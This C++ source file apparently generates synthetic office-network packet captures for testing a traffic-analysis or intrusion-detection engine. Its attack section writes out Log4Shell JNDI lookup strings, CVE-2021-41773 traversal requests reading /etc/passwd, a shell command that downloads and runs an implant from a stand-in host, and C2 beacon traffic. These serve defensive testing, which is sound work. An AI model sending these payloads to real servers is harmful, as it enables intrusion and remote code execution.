#include "tools/demogen/office_scenario.h"

#include <algorithm>

#include "tools/demogen/datagram_exchanges.h"
#include "tools/demogen/http_message.h"
#include "tools/demogen/office_network.h"
#include "tools/demogen/port_scan.h"
#include "tools/demogen/tls_session.h"

namespace mamori::demogen {
namespace {

constexpr Micros kDuration = 600 * kSecond;
constexpr uint8_t kFirstWorkstation = 10;
constexpr uint8_t kLastWorkstation = 40;

const char* const kBrowserAgent =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 "
    "Safari/537.36";
const char* const kScriptAgent = "curl/7.81.0";
const char* const kBeaconAgent = "Mozilla/4.0 (compatible; MSIE 6.0; mamori-demo-beacon)";
const char* const kNmapAgent = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
// Port-forwarded to 192.168.10.80 at the gateway; the tap sees the translated address.
const char* const kPublicWebName = "portal.office.example";

// 2001:db8::/32, the IPv6 documentation prefix.
Bytes documentationIpv6(uint8_t last) { return {0x20, 0x01, 0x0d, 0xb8, 0x01, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, last}; }

std::vector<DnsRecord> answersFor(const std::string& name, const std::string& canonicalName, DnsType type,
                                  const Bytes& address) {
  std::vector<DnsRecord> answers;
  std::string owner = name;
  if (!canonicalName.empty()) {
    answers.push_back(DnsRecord{name, DnsType::kCname, 3600, canonicalName, {}});
    owner = canonicalName;
  }
  if (!address.empty()) answers.push_back(DnsRecord{owner, type, 300, {}, address});
  return answers;
}

HttpHeaders browserHeaders(const std::string& host, const char* accept) {
  return {{"Host", host},
          {"Connection", "keep-alive"},
          {"User-Agent", kBrowserAgent},
          {"Accept", accept},
          {"Accept-Encoding", "gzip, deflate"},
          {"Accept-Language", "en-US,en;q=0.9"}};
}

std::vector<uint16_t> scannedPorts(Rng& rng) {
  // nmap's most common ports first, then the low range, 200 in all, probed in random order.
  std::vector<uint16_t> ports = {21,   22,    23,    25,    53,   80,   110,  111,  135,   139,  143,  443,  445,
                                 993,  995,   1723,  3306,  3389, 5900, 8080, 8443, 1025,  587,  199,  1720, 465,
                                 548,  113,   81,    6001,  10000, 514,  5060, 179,  1026,  2000, 8888, 444,  1027,
                                 32768, 49152, 49153, 49154, 8000, 5432, 6379, 9200, 27017, 11211, 2049};
  for (uint16_t port = 1; ports.size() < 200; ++port) {
    if (std::find(ports.begin(), ports.end(), port) == ports.end()) ports.push_back(port);
  }
  rng.shuffle(ports);
  return ports;
}

}  // namespace

OfficeScenario::OfficeScenario(CaptureFile& capture, uint64_t seed, Micros start)
    : capture_(capture), rng_(seed), start_(start) {
  resolver_ = officeHost(rng_, 2, kLinuxStack);
  webServer_ = officeHost(rng_, 80, kLinuxStack);
  for (uint8_t octet = kFirstWorkstation; octet <= kLastWorkstation; ++octet) {
    workstations_.push_back(officeHost(rng_, octet, kWindowsStack));
  }
  internetServers_ = {
      remoteHost(rng_, ipv4(198, 51, 100, 10), 11, 9 * kMillisecond),
      remoteHost(rng_, ipv4(203, 0, 113, 40), 14, 21 * kMillisecond),
      remoteHost(rng_, ipv4(203, 0, 113, 20), 12, 14 * kMillisecond),
      remoteHost(rng_, ipv4(198, 51, 100, 30), 10, 7 * kMillisecond),
      remoteHost(rng_, ipv4(203, 0, 113, 25), 13, 18 * kMillisecond),
      remoteHost(rng_, ipv4(198, 51, 100, 44), 11, 11 * kMillisecond),
  };
  ntpServer_ = remoteHost(rng_, ipv4(198, 51, 100, 123), 9, 6 * kMillisecond);
  attacker_ = remoteHost(rng_, ipv4(203, 0, 113, 66), 17, 38 * kMillisecond);
  c2Server_ = remoteHost(rng_, ipv4(198, 51, 100, 77), 19, 55 * kMillisecond);

  sites_ = {
      {"www.example.org", "www.example.org.cdn.example.net", &internetServers_[0], documentationIpv6(0x10), true, true},
      {"news.example.com", "", &internetServers_[1], {}, true, false},
      {"api.example.com", "", &internetServers_[2], {}, false, true},
      {"static.example.net", "", &internetServers_[3], documentationIpv6(0x30), false, true},
      {"mail.example.com", "", &internetServers_[4], {}, false, true},
      {"docs.example.org", "docs.example.org.cdn.example.net", &internetServers_[5], {}, true, true},
  };
  intranet_ = {"intranet.office.example", "", &webServer_, {}, true, false};
}

void OfficeScenario::generate() {
  for (Micros poll = 0; poll < kDuration; poll += 128 * kSecond) {
    ntpPoll(capture_, rng_, resolver_, ntpServer_, start_ + poll);
  }
  ping(capture_, rng_, workstations_[17 - kFirstWorkstation], webServer_, start_ + 75 * kSecond, 4);
  // The two pinned anomalies stream reassembly has to handle.
  browseHttp(workstations_[15 - kFirstWorkstation], sites_[1], start_ + 33 * kSecond, Delivery::kInOrder,
             Delivery::kFirstTwoSwapped);
  browseHttp(workstations_[31 - kFirstWorkstation], sites_[0], start_ + 47 * kSecond,
             Delivery::kFirstSegmentRetransmitted, Delivery::kInOrder);
  backgroundTraffic();

  portScan(start_ + 61 * kSecond);
  serviceProbes(start_ + 80 * kSecond);
  exploitAttempts(start_ + 95 * kSecond);
  c2Beacons(start_ + 150 * kSecond);
}

Micros OfficeScenario::resolve(Host& client, const Site& site, Micros at) {
  // The resolver answers local names and cached ones at once; a miss costs an upstream
  // round trip on a link this tap does not see.
  const bool local = site.server == &webServer_;
  const Micros upstream = local || rng_.percent(60) ? 0 : rng_.between(12, 45) * kMillisecond;
  const Micros a = dnsLookup(capture_, rng_, client, resolver_, at, site.name, DnsType::kA,
                             answersFor(site.name, site.canonicalName, DnsType::kA, ipv4Bytes(site.server->ip)),
                             upstream);
  // Windows asks for AAAA alongside A.
  const Micros aaaa = dnsLookup(capture_, rng_, client, resolver_, at + rng_.between(80, 300), site.name,
                                DnsType::kAaaa, answersFor(site.name, site.canonicalName, DnsType::kAaaa, site.ipv6),
                                upstream);
  return std::max(a, aaaa);
}

void OfficeScenario::browseHttp(Host& client, const Site& site, Micros at, Delivery requestDelivery,
                                Delivery pageDelivery) {
  const bool intranet = site.server == &webServer_;
  const char* server = intranet ? "Apache/2.4.49 (Unix)" : "nginx/1.24.0";
  std::vector<std::string> paths = intranet ? std::vector<std::string>{"/", "/wiki/holidays.html", "/hr/forms.html"}
                                            : std::vector<std::string>{"/", "/articles/latest.html"};
  const std::string& path = rng_.pick(paths);

  TcpConversation connection(capture_, rng_, client, *site.server, 80,
                             resolve(client, site, at) + rng_.between(200, 2000));
  connection.open();
  connection.send(Side::kClient,
                  httpRequest("GET", path,
                              browserHeaders(site.name,
                                             "text/html,application/xhtml+xml,application/xml;q=0.9,"
                                             "image/avif,image/webp,*/*;q=0.8")),
                  requestDelivery);
  connection.idle(rng_.between(1, 8) * kMillisecond);
  // Reordering needs at least two segments of page.
  const int paragraphs = pageDelivery == Delivery::kInOrder ? static_cast<int>(rng_.between(2, 6)) : 12;
  const std::string page = htmlPage(rng_, intranet ? "Office intranet" : site.name, paragraphs);
  connection.send(Side::kServer,
                  httpResponse(200, "OK", connection.now(),
                               {{"Server", server},
                                {"Content-Type", "text/html; charset=utf-8"},
                                {"Connection", "keep-alive"}},
                               page),
                  pageDelivery);

  if (rng_.percent(50)) {
    connection.idle(rng_.between(20, 80) * kMillisecond);
    HttpHeaders headers = browserHeaders(site.name, "text/css,*/*;q=0.1");
    headers.emplace_back("Referer", "http://" + site.name + path);
    connection.send(Side::kClient, httpRequest("GET", "/assets/site.css", headers));
    connection.idle(rng_.between(1, 4) * kMillisecond);
    connection.send(Side::kServer, httpResponse(200, "OK", connection.now(),
                                                {{"Server", server},
                                                 {"Content-Type", "text/css"},
                                                 {"Connection", "keep-alive"}},
                                                stylesheet()));
  }
  connection.idle(rng_.between(1, 4) * kSecond);
  connection.close(Side::kClient);
}

void OfficeScenario::browseHttps(Host& client, const Site& site, Micros at) {
  TcpConversation connection(capture_, rng_, client, *site.server, 443,
                             resolve(client, site, at) + rng_.between(200, 2000));
  TlsSession tls(rng_, site.name);
  connection.open();
  connection.send(Side::kClient, tls.clientHello());
  connection.idle(rng_.between(500, 3000));
  connection.send(Side::kServer, tls.serverFlight(static_cast<size_t>(rng_.between(1800, 2800))));

  Bytes request = tls.clientFinished();
  const Bytes requestRecord = tls.applicationData(static_cast<size_t>(rng_.between(300, 600)));
  request.insert(request.end(), requestRecord.begin(), requestRecord.end());
  connection.send(Side::kClient, request);
  connection.idle(rng_.between(2, 20) * kMillisecond);
  // TLS 1.3 servers send their session tickets after the client's Finished.
  Bytes reply;
  for (size_t bytes : {size_t{233}, size_t{233}, static_cast<size_t>(rng_.between(300, 1800))}) {
    const Bytes record = tls.applicationData(bytes);
    reply.insert(reply.end(), record.begin(), record.end());
  }
  connection.send(Side::kServer, reply);

  if (rng_.percent(40)) {
    connection.idle(rng_.between(50, 400) * kMillisecond);
    connection.send(Side::kClient, tls.applicationData(static_cast<size_t>(rng_.between(250, 500))));
    connection.idle(rng_.between(2, 20) * kMillisecond);
    connection.send(Side::kServer, tls.applicationData(static_cast<size_t>(rng_.between(300, 1500))));
  }
  connection.idle(rng_.between(1, 6) * kSecond);
  connection.send(Side::kClient, tls.closeNotify());
  connection.close(Side::kClient);
}

void OfficeScenario::backgroundTraffic() {
  std::vector<Site*> httpSites;
  std::vector<Site*> httpsSites;
  std::vector<Site*> allSites;
  for (Site& site : sites_) {
    if (site.http) httpSites.push_back(&site);
    if (site.https) httpsSites.push_back(&site);
    allSites.push_back(&site);
  }

  for (Micros at = start_ + 2 * kSecond; at < start_ + kDuration - 5 * kSecond;
       at += rng_.between(2 * kSecond, 6 * kSecond)) {
    Host& client = rng_.pick(workstations_);
    const int64_t roll = rng_.between(0, 99);
    if (roll < 40) {
      browseHttps(client, *rng_.pick(httpsSites), at);
    } else if (roll < 65) {
      browseHttp(client, *rng_.pick(httpSites), at, Delivery::kInOrder, Delivery::kInOrder);
    } else if (roll < 85) {
      browseHttp(client, intranet_, at, Delivery::kInOrder, Delivery::kInOrder);
    } else {
      resolve(client, *rng_.pick(allSites), at);
    }
  }
}

void OfficeScenario::portScan(Micros at) {
  PortScan scan{scannedPorts(rng_), {22, 80, 443}, 10 * kMillisecond};
  synScan(capture_, rng_, attacker_, webServer_, at, scan);
}

void OfficeScenario::serviceProbes(Micros at) {
  // nmap -sC on the open web port: the http-title and http-robots.txt scripts, one
  // connection each, with the Nmap Scripting Engine's own User-Agent.
  const std::vector<std::pair<std::string, int>> probes = {{"/", 200}, {"/robots.txt", 404}};
  Micros next = at;
  for (const auto& [path, status] : probes) {
    TcpConversation connection(capture_, rng_, attacker_, webServer_, 80, next);
    connection.open();
    connection.send(Side::kClient, httpRequest("GET", path,
                                               {{"Connection", "close"},
                                                {"User-Agent", kNmapAgent},
                                                {"Host", kPublicWebName}}));
    connection.idle(rng_.between(1, 3) * kMillisecond);
    const std::string body =
        status == 200 ? htmlPage(rng_, "Office intranet", 2)
                      : "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>404 Not Found</title>\n"
                        "</head><body>\n<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>\n"
                        "</body></html>\n";
    connection.send(Side::kServer, httpResponse(status, status == 200 ? "OK" : "Not Found", connection.now(),
                                                {{"Server", "Apache/2.4.49 (Unix)"},
                                                 {"Content-Type", "text/html; charset=iso-8859-1"},
                                                 {"Connection", "close"}},
                                                body));
    connection.close(Side::kServer);
    next = connection.now() + rng_.between(200, 900) * kMillisecond;
  }
}

void OfficeScenario::exploitAttempts(Micros at) {
  struct Attempt {
    Micros offset;
    std::string request;
    size_t splitAt;  // npos: the whole request in one segment
    int status;
    const char* reason;
    const char* contentType;
    std::string body;
  };
  auto apacheError = [](const std::string& title, const std::string& heading, const std::string& text) {
    return "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>" + title +
           "</title>\n</head><body>\n<h1>" + heading + "</h1>\n<p>" + text + "</p>\n</body></html>\n";
  };
  const char* const html = "text/html; charset=iso-8859-1";
  const HttpHeaders script = {{"Host", kPublicWebName}, {"User-Agent", kScriptAgent}, {"Accept", "*/*"}};
  HttpHeaders rceHeaders = script;
  rceHeaders.emplace_back("Content-Type", "application/x-www-form-urlencoded");
  const HttpHeaders log4shellAgent = {
      {"Host", kPublicWebName}, {"User-Agent", "${jndi:ldap://203.0.113.66:1389/a}"}, {"Accept", "*/*"}};
  HttpHeaders log4shellHeader = script;
  log4shellHeader.emplace_back("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/b}");
  const std::string splitRequest = httpRequest("GET", "/api/status", log4shellHeader);
  const std::string shell = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh";

  const std::vector<Attempt> attempts = {
      // CVE-2021-44228 probes, which an Apache server shrugs off; the second cuts the lookup
      // string across two segments, so that only a reassembling engine sees it.
      {0, httpRequest("GET", "/", log4shellAgent), std::string::npos, 200, "OK", html,
       htmlPage(rng_, "Office intranet", 3)},
      {2 * kSecond, splitRequest, splitRequest.find("${jndi") + 4, 404, "Not Found", html,
       apacheError("404 Not Found", "Not Found", "The requested URL was not found on this server.")},
      // CVE-2021-41773: the traversal to a file is refused, but mod_cgi runs the shell it
      // reaches: the attacker checks who it runs as, then fetches and starts an implant.
      {15 * kSecond, httpRequest("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", script), std::string::npos, 403,
       "Forbidden", html,
       apacheError("403 Forbidden", "Forbidden", "You don't have permission to access this resource.")},
      {17500 * kMillisecond, httpRequest("POST", shell, rceHeaders, "echo;id"), std::string::npos, 200, "OK",
       "text/plain", "uid=1(daemon) gid=1(daemon) groups=1(daemon)\n"},
      {20 * kSecond,
       httpRequest("POST", shell, rceHeaders, "echo;curl -s -o /tmp/.u http://198.51.100.77/u;chmod +x /tmp/.u;/tmp/.u"),
       std::string::npos, 200, "OK", "text/plain", ""},
  };

  for (const Attempt& attempt : attempts) {
    TcpConversation connection(capture_, rng_, attacker_, webServer_, 80, at + attempt.offset);
    connection.open();
    if (attempt.splitAt == std::string::npos) {
      connection.send(Side::kClient, attempt.request);
    } else {
      connection.sendSplit(Side::kClient, attempt.request, attempt.splitAt);
    }
    // The dropper's download runs before the CGI script answers.
    if (&attempt == &attempts.back()) implantDownload(connection.now() + rng_.between(2, 6) * kMillisecond);
    connection.idle(rng_.between(1, 3) * kMillisecond);
    connection.send(Side::kServer, httpResponse(attempt.status, attempt.reason, connection.now(),
                                                {{"Server", "Apache/2.4.49 (Unix)"},
                                                 {"Content-Type", attempt.contentType}},
                                                attempt.body));
    connection.close(Side::kClient);
  }
}

void OfficeScenario::implantDownload(Micros at) {
  // A stripped ELF executable; only its magic and header are meaningful.
  std::string implant = std::string("\x7f" "ELF\x02\x01\x01", 7);
  implant.resize(64, '\0');
  while (implant.size() < 14'336) implant.push_back(static_cast<char>(rng_.next()));
  TcpConversation connection(capture_, rng_, webServer_, c2Server_, 80, at);
  connection.open();
  connection.send(Side::kClient,
                  httpRequest("GET", "/u", {{"Host", "198.51.100.77"}, {"User-Agent", kScriptAgent}, {"Accept", "*/*"}}));
  connection.idle(rng_.between(2, 10) * kMillisecond);
  connection.send(Side::kServer, httpResponse(200, "OK", connection.now(),
                                              {{"Server", "nginx"}, {"Content-Type", "application/octet-stream"}},
                                              implant));
  connection.close(Side::kClient);
}

void OfficeScenario::c2Beacons(Micros at) {
  Host& bot = webServer_;
  const std::string domain = "update.bad-c2.example";
  // The implant resolves IPv4 only, and the long TTL keeps the answer cached for the
  // whole capture: one lookup before the first beacon.
  dnsLookup(capture_, rng_, bot, resolver_, at - 600 * kMillisecond, domain, DnsType::kA,
            {DnsRecord{domain, DnsType::kA, 3600, {}, ipv4Bytes(c2Server_.ip)}}, 31 * kMillisecond);

  // The implant sleeps 60 s +-2 s between beacons, so the period shows in the intervals.
  Micros sentAt = at;
  for (int beacon = 1; beacon <= 8; ++beacon, sentAt += 60 * kSecond + rng_.between(-2 * kSecond, 2 * kSecond)) {
    TcpConversation connection(capture_, rng_, bot, c2Server_, 8080, sentAt);
    connection.open();
    connection.send(Side::kClient, httpRequest("POST", "/gate.php",
                                               {{"Host", domain + ":8080"},
                                                {"User-Agent", kBeaconAgent},
                                                {"Content-Type", "application/x-www-form-urlencoded"},
                                                {"Cache-Control", "no-cache"},
                                                {"Connection", "close"}},
                                               "id=WEB80-5F1C9A&seq=" + std::to_string(beacon) + "&st=idle"));
    connection.idle(rng_.between(2, 10) * kMillisecond);
    connection.send(Side::kServer, httpResponse(200, "OK", connection.now(),
                                                {{"Server", "nginx"},
                                                 {"Content-Type", "text/plain"},
                                                 {"Connection", "close"}},
                                                "noop"));
    connection.close(Side::kServer);
  }
}

}  // namespace mamori::demogen
